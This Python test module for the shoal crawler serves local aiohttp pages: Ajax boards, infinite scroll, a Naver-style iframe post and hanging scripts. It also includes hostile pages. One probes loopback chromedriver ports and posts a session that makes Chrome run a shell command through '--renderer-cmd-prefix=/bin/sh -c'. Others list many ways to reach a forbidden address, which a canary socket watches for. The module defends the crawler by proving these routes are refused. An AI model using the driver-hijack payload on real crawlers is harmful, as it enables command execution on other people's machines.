"""Small local sites for the browser tests, served by aiohttp on a background thread, and their fixtures.

:class:`SiteServer` pages imitate what rendered crawls meet: an Ajax comment
board, an infinite scroll list, a Naver-blog style ``iframe#mainFrame`` post, a
"more comments" button, a page whose script never returns, and a page pointing
at a refused address. Every request is logged so a test can prove what was
(not) fetched. :class:`Canary` records any connection to an address a page
must not reach.

:class:`JsSite` is a board built by JavaScript, crawled with browser rules
(:func:`js_board_spec`, fixture :func:`js_site`). The fixtures ``runner``,
``site`` and ``other_site`` serve the fetcher tests: a test module imports them
(and names them in its ``__all__``).
"""

from __future__ import annotations

import asyncio
import gzip
import os
import shutil
import socket
import ssl
import threading
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path

import pytest
from aiohttp import web

from shoal.testing import ThreadedSite
from tests.conftest import missing

__all__ = [
    "Canary",
    "JsSite",
    "SiteServer",
    "js_board_spec",
    "js_site",
    "other_site",
    "runner",
    "site",
]

Handler = Callable[[web.Request], Awaitable[web.StreamResponse]]


def _html(body: str, *, status: int = 200) -> web.Response:
    return web.Response(text=body, status=status, content_type="text/html", charset="utf-8")


AJAX_BOARD = """<!doctype html><html><head><title>board</title></head><body>
<h1>글 제목</h1><div id="comments"></div>
<script>
setTimeout(function () {
  fetch('/api/comments').then(r => r.json()).then(function (items) {
    const box = document.getElementById('comments');
    for (const text of items) {
      const d = document.createElement('div'); d.className = 'comment'; d.textContent = text; box.appendChild(d);
    }
  });
}, %(delay)d);
</script></body></html>"""

SCROLL_LIST = """<!doctype html><html><head><title>feed</title>
<style>.item { height: 300px; border-bottom: 1px solid #ccc; }</style></head><body>
<div id="list"></div>
<script>
let page = 0, loading = false;
function more() {
  if (loading || page >= 8) return;
  loading = true;
  fetch('/api/items?page=' + page).then(r => r.json()).then(function (items) {
    const list = document.getElementById('list');
    for (const text of items) {
      const d = document.createElement('div'); d.className = 'item'; d.textContent = text; list.appendChild(d);
    }
    page += 1; loading = false;
  });
}
window.addEventListener('scroll', function () {
  if (window.innerHeight + window.scrollY >= document.body.scrollHeight - 50) more();
});
more();
</script></body></html>"""

NAVER_OUTER = """<!doctype html><html><head><title>blog</title></head><body>
<div id="header">블로그</div>
<iframe id="mainFrame" name="mainFrame" src="/PostView.naver?blogId=shoal&logNo=1" width="800" height="600"></iframe>
</body></html>"""

NAVER_POST = """<!doctype html><html><head><title>post</title></head><body>
<div class="se-main-container"><p>오늘의 크롤링 일기: 프레임 안의 본문</p></div>
</body></html>"""

MORE_COMMENTS = """<!doctype html><html><head><title>more</title></head><body>
<div id="comments"><div class="comment">c0</div></div>
<button class="more" type="button">댓글 더보기</button>
<script>
let next = 1;
document.querySelector('.more').addEventListener('click', function () {
  fetch('/api/more?page=' + next).then(r => r.json()).then(function (items) {
    const box = document.getElementById('comments');
    for (const text of items) {
      const d = document.createElement('div'); d.className = 'comment'; d.textContent = text; box.appendChild(d);
    }
    next += 1;
    if (next > 3) document.querySelector('.more').remove();
  });
});
</script></body></html>"""

HANG = """<!doctype html><html><head><title>hang</title></head><body><p>spinning</p>
<script>while (true) {}</script></body></html>"""

HANG_LATER = """<!doctype html><html><head><title>hang later</title></head><body><p>fine at first</p>
<script>setTimeout(function () { while (true) {} }, 200);</script></body></html>"""

NEVER = """<!doctype html><html><head><title>never</title></head><body><p class="other">x</p></body></html>"""

SSRF = """<!doctype html><html><head><title>ssrf</title></head><body>
<p id="ok">visible</p>
<img src="http://%(refused)s/x.png">
<iframe src="http://%(refused)s/frame"></iframe>
<script src="http://%(refused)s/x.js"></script>
<img src="/to-refused">
<script>fetch('http://%(refused)s/xhr').catch(function () {});</script>
</body></html>"""


DRIVER_ATTACK = """<!doctype html><html><head><title>attack</title></head><body>
<p id="ok">a page that attacks the crawler</p>
<script>
// The red-team attack of issue 9: start a chromedriver session whose Chrome runs a shell command.
const q = new URLSearchParams(location.search);
const marker = q.get('marker');
const caps = {capabilities: {alwaysMatch: {browserName: 'chrome', 'goog:chromeOptions': {
  binary: '/usr/lib/chromium/chromium',
  args: ['--headless=new', '--no-sandbox', '--renderer-cmd-prefix=/bin/sh -c touch${IFS}' + marker]}}}};
const body = JSON.stringify(caps);
const seen = [];
function tryOne(url, init) {
  return fetch(url, init).then(r => seen.push(url + ' ' + r.type + ' ' + r.status),
                               e => seen.push(url + ' error'));
}
const jobs = [];
for (const port of (q.get('ports') || '').split(',').filter(Boolean)) {
  // Every spelling of this machine: loopback v4 and v6, a name, and 0.0.0.0 (Linux connects it locally).
  for (const host of ['127.0.0.1', '[::1]', 'localhost', '0.0.0.0', '127.1']) {
    jobs.push(tryOne('http://' + host + ':' + port + '/session', {method: 'POST', mode: 'no-cors',
                     headers: {'Content-Type': 'text/plain'}, body: body}));
  }
  const base = 'http://127.0.0.1:' + port;
  jobs.push(tryOne(base + '/json/version', {mode: 'no-cors'}));
  jobs.push(new Promise(function (done) {
    try {
      const ws = new WebSocket('ws://127.0.0.1:' + port + '/devtools/browser');
      ws.onopen = function () { seen.push(port + ' ws open'); done(); };
      ws.onerror = function () { seen.push(port + ' ws error'); done(); };
    } catch (e) { seen.push(port + ' ws throws'); done(); }
  }));
}
Promise.all(jobs).then(function () {
  fetch('/report?' + encodeURIComponent(seen.join('|'))).finally(function () {
    const d = document.createElement('p'); d.id = 'done'; d.textContent = seen.join('|');
    document.body.appendChild(d);
  });
});
</script></body></html>"""

HOSTILE = """<!doctype html><html><head><title>hostile</title>
<link rel="stylesheet" href="http://%(t)s/v/stylesheet">
<style>
@import url(http://%(t)s/v/css-import);
@font-face { font-family: canary; src: url(http://%(t)s/v/font-face); }
body { font-family: canary, sans-serif; }
.bg { background: url(http://%(t)s/v/background); width: 50px; height: 50px; }
.set { background-image: image-set(url(http://%(t)s/v/image-set) 1x); width: 50px; height: 50px; }
</style>
<link rel="prefetch" href="http://%(t)s/v/prefetch">
<link rel="preload" as="script" href="http://%(t)s/v/preload">
<link rel="preload" as="fetch" crossorigin href="http://%(t)s/v/preload-fetch">
<link rel="modulepreload" href="http://%(t)s/v/modulepreload">
<link rel="preconnect" href="http://%(t)s">
<link rel="dns-prefetch" href="http://%(t)s">
<link rel="manifest" href="http://%(t)s/v/manifest">
<link rel="icon" href="http://%(t)s/v/icon">
<link rel="apple-touch-icon" href="http://%(t)s/v/touch-icon">
</head><body>
<p id="ok">text in the canary font</p>
<div class="bg"></div><div class="set"></div>
<img src="http://%(t)s/v/img"><img srcset="http://%(t)s/v/srcset 2x">
<picture><source srcset="http://%(t)s/v/picture"><img src="/x.png"></picture>
<svg width="10" height="10"><image href="http://%(t)s/v/svg-image" width="10" height="10"/></svg>
<input type="image" src="http://%(t)s/v/input-image">
<video src="http://%(t)s/v/video" poster="http://%(t)s/v/poster" preload="auto" autoplay muted>
  <track kind="captions" src="http://%(t)s/v/track" default></video>
<audio src="http://%(t)s/v/audio" preload="auto" autoplay muted></audio>
<object data="http://%(t)s/v/object" type="text/html" width="10" height="10"></object>
<embed src="http://%(t)s/v/embed" type="text/html" width="10" height="10">
<iframe src="http://%(t)s/v/iframe" width="10" height="10"></iframe>
<iframe name="formframe" width="10" height="10"></iframe>
<form id="f" method="post" action="http://%(t)s/v/form-post" target="formframe">
  <input name="a" value="b"></form>
<iframe id="pingframe" width="10" height="10" srcdoc="<a id=p href='/plain' ping='http://%(t)s/v/ping'>p</a>
  <script>document.getElementById('p').click()</script>"></iframe>
<script src="http://%(t)s/v/script"></script>
<script type="module">import('http://%(t)s/v/dynamic-import').catch(function () {});</script>
<script>
const T = '%(t)s';
function quiet(f) { try { const p = f(); if (p && p.catch) p.catch(function () {}); } catch (e) {} }
quiet(() => fetch('http://' + T + '/v/fetch'));
quiet(() => fetch('http://' + T + '/v/fetch-no-cors', {mode: 'no-cors', method: 'POST', body: 'x'}));
quiet(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://' + T + '/v/xhr'); x.send(); });
quiet(() => new WebSocket('ws://' + T + '/v/websocket'));
quiet(() => new WebSocket('wss://' + T + '/v/websocket-tls'));
quiet(() => new EventSource('http://' + T + '/v/eventsource'));
quiet(() => navigator.sendBeacon('http://' + T + '/v/beacon', 'x'));
const workerCode = "try { importScripts('http://" + T + "/v/worker-import'); } catch (e) {}" +
                   "fetch('http://" + T + "/v/worker-fetch').catch(function () {});";
quiet(() => new Worker(URL.createObjectURL(new Blob([workerCode], {type: 'text/javascript'}))));
quiet(() => new SharedWorker(URL.createObjectURL(new Blob([workerCode], {type: 'text/javascript'}))));
quiet(() => new Worker('http://' + T + '/v/worker-direct'));
quiet(() => navigator.serviceWorker.register('/sw.js?t=' + encodeURIComponent(T)));
quiet(() => window.open('http://' + T + '/v/window-open'));
quiet(() => document.getElementById('f').submit());
quiet(() => {
  const pc = new RTCPeerConnection({iceServers: [
    {urls: 'stun:' + T},
    {urls: 'turn:' + T + '?transport=udp', username: 'u', credential: 'p'},
    {urls: 'turn:' + T + '?transport=tcp', username: 'u', credential: 'p'}]});
  pc.createDataChannel('x');
  return pc.createOffer().then(o => pc.setLocalDescription(o));
});
setTimeout(function () {
  fetch('/report?hostile-fired').finally(function () {
    const d = document.createElement('p'); d.id = 'done'; d.textContent = 'fired';
    document.body.appendChild(d);
  });
}, 2500);
</script></body></html>"""

SERVICE_WORKER = """
const T = new URL(location.href).searchParams.get('t');
self.addEventListener('install', function (e) {
  e.waitUntil(fetch('http://' + T + '/v/sw-install').catch(function () {}));
});
fetch('http://' + T + '/v/sw-top').catch(function () {});
"""

TOP_NAVIGATION = """<!doctype html><html><head><title>frame takes over</title></head><body>
<p id="ok">outer</p>
<iframe srcdoc="<script>setTimeout(function () { top.location = 'http://%(t)s/v/top-location'; }, 100)</script>">
</iframe></body></html>"""

WITH_SUBRESOURCES = """<!doctype html><html><head><title>subresources</title></head><body>
<p id="ok">page</p>
<img src="/x.png?own"><img src="http://%(other)s/x.png?other">
<script>fetch('/xhr?own').then(function () { return fetch('http://%(other)s/xhr?other', {mode: 'no-cors'}); })
  .finally(function () { const d = document.createElement('p'); d.id = 'done'; document.body.appendChild(d); });
</script></body></html>"""


class Canary:
    """A TCP and a UDP socket on ``host`` (same port) that record every connection and datagram.

    Aim hostile pages at :attr:`target`; ``hits`` must stay empty when the
    browser proxy refuses the address. Nothing is ever answered.
    """

    def __init__(self, host: str) -> None:
        self.host = host
        self.hits: list[str] = []
        self._tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._tcp.bind((host, 0))
        self.port = int(self._tcp.getsockname()[1])
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind((host, self.port))
        self._tcp.listen(64)
        self._tcp.settimeout(0.2)
        self._udp.settimeout(0.2)
        self._stop = threading.Event()
        self._threads = [
            threading.Thread(target=self._accept, name="canary-tcp", daemon=True),
            threading.Thread(target=self._receive, name="canary-udp", daemon=True),
        ]

    @property
    def target(self) -> str:
        """``host:port``, the same for TCP and UDP."""
        return f"{self.host}:{self.port}"

    def start(self) -> Canary:
        """Start recording; returns self."""
        for t in self._threads:
            t.start()
        return self

    def stop(self) -> None:
        """Stop recording and close both sockets."""
        self._stop.set()
        for t in self._threads:
            t.join(5)
        self._tcp.close()
        self._udp.close()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._tcp.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1.0)
                try:
                    first = conn.recv(200)
                except OSError:
                    first = b""
            self.hits.append("tcp " + first.split(b"\r\n", 1)[0].decode("latin-1"))

    def _receive(self) -> None:
        while not self._stop.is_set():
            try:
                data, _ = self._udp.recvfrom(2048)
            except (TimeoutError, OSError):
                continue
            self.hits.append(f"udp {len(data)} bytes")


class SiteServer(ThreadedSite):
    """Serves the test pages on ``host`` (port chosen by the OS) from a daemon thread.

    ``log`` lists the path (with query) of every request received, in order,
    and ``headers`` the request headers of each (same order). ``refused`` is
    the ``host:port`` the SSRF page points at. The hostile pages take their
    target as ``?t=host:port`` (see :class:`Canary`).
    """

    thread_name = "browser-site"

    def __init__(
        self,
        host: str = "127.0.0.1",
        *,
        refused: str = "127.0.0.2:9",
        ssl_context: ssl.SSLContext | None = None,
    ) -> None:
        self.host = host
        self.refused = refused
        self.ssl_context = ssl_context
        self.port = 0
        self.log: list[str] = []
        self.headers: list[dict[str, str]] = []

    @property
    def base(self) -> str:
        """``http://host:port`` (``https`` when served with TLS)."""
        scheme = "https" if self.ssl_context else "http"
        return f"{scheme}://{self.host}:{self.port}"

    def url(self, path: str) -> str:
        """The absolute URL of ``path``."""
        return self.base + path

    async def _open(self) -> None:
        app = web.Application(middlewares=[self._logger])
        routes: dict[str, Handler] = {
            "/ajax": self._ajax,
            "/slow-ajax": self._slow_ajax,
            "/api/comments": self._comments,
            "/scroll": self._static(SCROLL_LIST),
            "/api/items": self._items,
            "/blog": self._static(NAVER_OUTER),
            "/PostView.naver": self._static(NAVER_POST),
            "/more": self._static(MORE_COMMENTS),
            "/api/more": self._more,
            "/hang": self._static(HANG),
            "/hang-later": self._static(HANG_LATER),
            "/never": self._static(NEVER),
            "/ssrf": self._ssrf,
            "/to-refused": self._to_refused,
            "/redirect": self._redirect,
            "/gzip": self._gzip,
            "/missing": self._missing,
            "/plain": self._static("<!doctype html><p id=plain>plain page</p>"),
            "/x.png": self._png,
            "/frame": self._static("<p>frame</p>"),
            "/x.js": self._static("console.log(1)"),
            "/xhr": self._static("{}"),
            "/": self._static("<p>root</p>"),
            "/attack-driver": self._static(DRIVER_ATTACK),
            "/hostile": self._targeted(HOSTILE),
            "/top-navigation": self._targeted(TOP_NAVIGATION),
            "/with-subresources": self._with_subresources,
            "/sw.js": self._service_worker,
            "/report": self._static(""),
            "/slow-head": self._slow_head,
        }
        for path, handler in routes.items():
            app.router.add_get(path, handler)
        runner = await self._runner(app, shutdown_timeout=2.0)
        self.port = await self._listen(runner, self.host, ssl_context=self.ssl_context)

    @web.middleware
    async def _logger(self, request: web.Request, handler: Handler) -> web.StreamResponse:
        self.log.append(request.path_qs)
        self.headers.append(dict(request.headers))
        return await handler(request)

    @staticmethod
    def _static(body: str) -> Handler:
        async def handler(request: web.Request) -> web.StreamResponse:
            return _html(body)

        return handler

    @staticmethod
    def _targeted(body: str) -> Handler:
        async def handler(request: web.Request) -> web.StreamResponse:
            return _html(body % {"t": request.query.get("t", "127.0.0.2:9")})

        return handler

    async def _with_subresources(self, request: web.Request) -> web.StreamResponse:
        return _html(WITH_SUBRESOURCES % {"other": request.query.get("other", "127.0.0.2:9")})

    async def _slow_head(self, request: web.Request) -> web.StreamResponse:
        await asyncio.sleep(float(request.query.get("s", "30")))
        return _html("<p>late</p>")

    async def _service_worker(self, request: web.Request) -> web.StreamResponse:
        return web.Response(text=SERVICE_WORKER, content_type="text/javascript")

    async def _ajax(self, request: web.Request) -> web.StreamResponse:
        return _html(AJAX_BOARD % {"delay": 500})

    async def _slow_ajax(self, request: web.Request) -> web.StreamResponse:
        return _html(AJAX_BOARD % {"delay": int(request.query.get("delay", "1000"))})

    async def _comments(self, request: web.Request) -> web.StreamResponse:
        return web.json_response(["첫 댓글", "second comment", "third comment"])

    async def _items(self, request: web.Request) -> web.StreamResponse:
        page = int(request.query.get("page", "0"))
        await asyncio.sleep(0.05)
        return web.json_response([f"item {page * 10 + i}" for i in range(10)])

    async def _more(self, request: web.Request) -> web.StreamResponse:
        page = int(request.query.get("page", "1"))
        await asyncio.sleep(0.05)
        return web.json_response([f"c{page}-{i}" for i in range(2)])

    async def _ssrf(self, request: web.Request) -> web.StreamResponse:
        return _html(SSRF % {"refused": self.refused})

    async def _to_refused(self, request: web.Request) -> web.StreamResponse:
        raise web.HTTPFound(f"http://{self.refused}/redirected.png")

    async def _redirect(self, request: web.Request) -> web.StreamResponse:
        raise web.HTTPFound("/plain")

    async def _gzip(self, request: web.Request) -> web.StreamResponse:
        body = gzip.compress("<!doctype html><p id=z>압축된 페이지</p>".encode())
        return web.Response(
            body=body,
            headers={"Content-Type": "text/html; charset=utf-8", "Content-Encoding": "gzip"},
        )

    async def _missing(self, request: web.Request) -> web.StreamResponse:
        return _html("<!doctype html><h1>not here</h1>", status=404)

    async def _png(self, request: web.Request) -> web.StreamResponse:
        return web.Response(body=b"\x89PNG\r\n\x1a\n", content_type="image/png")


# -- the JavaScript-built board of the browser crawls ----------------------------------------------

# The list page builds its links with JavaScript; plain HTTP sees none of them.
JS_LIST = """<!doctype html><html><head><title>js board</title></head><body><ul id="posts"></ul>
<script>
setTimeout(function () {
  const ul = document.getElementById('posts');
  for (let i = 1; i <= 3; i++) {
    const li = document.createElement('li');
    li.innerHTML = '<a class="post" href="/post/' + i + '">글 ' + i + '</a>';
    ul.appendChild(li);
  }
}, 300);
</script></body></html>"""

JS_POST = """<!doctype html><html><head><title>post %d</title></head><body><h1>글 %d</h1><div id="c"></div>
<script>setTimeout(function () {
  const d = document.createElement('p'); d.className = 'comment'; d.textContent = '댓글 %d'; document.getElementById('c').appendChild(d);
}, 300);</script></body></html>"""


class JsSite(ThreadedSite):
    """A tiny JavaScript-built board on 127.0.0.1: ``/`` links ``/post/1..3`` by script, each post adds its comment by script.

    ``log`` lists the path of every request, ``cookies`` the Cookie header each path came with.
    """

    thread_name = "js-site"

    def __init__(self) -> None:
        self.log: list[str] = []
        self.cookies: dict[str, str | None] = {}
        self.port = 0

    @property
    def base(self) -> str:
        """``http://127.0.0.1:port``."""
        return f"http://127.0.0.1:{self.port}"

    async def _open(self) -> None:
        app = web.Application()
        app.router.add_get("/", self._page)
        app.router.add_get("/robots.txt", self._page)
        app.router.add_get("/post/{n}", self._page)
        self.port = await self._listen(await self._runner(app), "127.0.0.1")

    async def _page(self, request: web.Request) -> web.Response:
        self.log.append(request.path)
        self.cookies[request.path] = request.headers.get("Cookie")
        if request.path == "/robots.txt":
            return web.Response(text="User-agent: *\nAllow: /\n")
        if request.path == "/":
            return web.Response(text=JS_LIST, content_type="text/html")
        n = int(request.match_info.get("n", "0"))
        return web.Response(text=JS_POST % (n, n, n), content_type="text/html")


def js_board_spec(site: JsSite, data: Path, more: str = "") -> str:
    """The crawl spec of :class:`JsSite`, its files in ``data``; ``more`` adds TOML sections.

    Both rules render with the browser: ``list`` waits for the script-built
    ``a.post`` links and follows them, ``post`` waits for the ``.comment``.
    """
    return f"""
[crawl]
name = "js"
seeds = ["{site.base}/"]

[[rules]]
name = "list"
glob = "/"
kind = "list"
render = "browser"
wait_for = "a.post"
follow = ["a.post"]

[[rules]]
name = "post"
glob = "/post/*"
kind = "detail"
render = "browser"
wait_for = ".comment"

[scope]
allow_private = true

[limits]
fetch_timeout = 30

[storage]
frontier = "sqlite:///{data}/f.sqlite"
archive = "{data}/warc"
{more}"""


@pytest.fixture
def js_site() -> Iterator[JsSite]:
    """:class:`JsSite` running; chromedriver must be there (``missing`` otherwise)."""
    if not (shutil.which("chromedriver") or os.path.exists("/usr/bin/chromedriver")):
        missing(
            "chromedriver",
            "install Debian's chromium and chromium-driver (make test does it as root)",
        )
    with JsSite() as s:
        yield s


# -- fixtures of the fetcher tests -----------------------------------------------------------------


@pytest.fixture(scope="module")
def runner() -> Iterator[asyncio.Runner]:
    """One event loop for the module's fetches (a browser fetcher lives across tests)."""
    with asyncio.Runner() as r:
        yield r


@pytest.fixture(scope="module")
def site() -> Iterator[SiteServer]:
    """The test pages on 127.0.0.1."""
    with SiteServer("127.0.0.1") as s:
        yield s


@pytest.fixture(scope="module")
def other_site() -> Iterator[SiteServer]:
    """A second in-scope host:port (another port of 127.0.0.1)."""
    with SiteServer("127.0.0.1") as s:
        yield s
